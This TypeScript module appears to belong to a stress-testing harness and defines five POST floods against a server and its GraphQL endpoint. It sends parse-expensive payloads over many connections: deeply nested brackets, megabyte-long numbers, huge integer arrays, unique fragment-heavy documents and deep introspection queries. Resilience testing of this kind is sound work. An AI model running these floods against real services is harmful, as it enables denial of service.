import { setMaxListeners } from 'node:events';
import { Pool } from 'undici';
import type { Attack } from './attack.ts';

/** A POST request: its path, and its bodies, which can all differ. */
interface Flood {
  readonly name: string;
  readonly description: string;
  readonly path: string;
  body(count: number): string | Buffer;
}

function attackOf({ name, description, path, body }: Flood): Attack {
  return {
    name,
    description,
    async run({ url, token }, { connections, signal }) {
      const pool = new Pool(url, { connections, pipelining: 1 });
      const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
      let requests = 0;
      setMaxListeners(0, signal);
      async function worker(): Promise<void> {
        while (!signal.aborted) {
          requests += 1;
          try {
            const answer = await pool.request({ method: 'POST', path, headers, body: body(requests), signal });
            await answer.body.dump();
          } catch {
            // A server that rejects a body closes the connection before the end of the body.
          }
        }
      }
      await Promise.all(Array.from({ length: connections }, worker));
      await pool.destroy();
      return { requests };
    },
  };
}

const brackets = Buffer.from('['.repeat(700_000) + ']'.repeat(700_000));
const digits = '9'.repeat(1_400_000);
const variables = (value: string): Buffer => Buffer.from(`{"query":"{ head { height } }","variables":{"v":${value}}}`);
const longNumber = variables(digits);
const longIntegers = variables(`[${'9007199254740993,'.repeat(80_000)}1]`);

/** A valid document of 12 kB with 180 fragments on one type, different each time. */
function document(count: number): string {
  const names = Array.from({ length: 180 }, (_, index) => `Fragment${count}Number${index}`);
  const spreads = names.map((name) => `...${name}`).join(' ');
  return `{ head { ${spreads} } } ${names.map((name) => `fragment ${name} on Block { height hash }`).join(' ')}`;
}

const introspection = (count: number): string =>
  `query Introspection${count} { __schema { types { name fields { name type { name fields { name description type { name } } } } } } }`;

/** Requests that are short for the client and expensive to parse for the server. */
export const parsingAttacks: readonly Attack[] = [
  attackOf({
    name: 'brackets',
    description: '700,000 nested brackets at POST /',
    path: '/',
    body: () => brackets,
  }),
  attackOf({
    name: 'longNumber',
    description: 'variables with a number of 1.4 MB',
    path: '/graphql',
    body: () => longNumber,
  }),
  attackOf({
    name: 'longIntegers',
    description: 'variables with 80,000 integers that need exact digits',
    path: '/graphql',
    body: () => longIntegers,
  }),
  attackOf({
    name: 'document',
    description: 'distinct documents of 12 kB',
    path: '/graphql',
    body: (count) => JSON.stringify({ query: document(count) }),
  }),
  attackOf({
    name: 'introspection',
    description: 'distinct introspection queries of the maximum depth',
    path: '/graphql',
    body: (count) => JSON.stringify({ query: introspection(count) }),
  }),
];
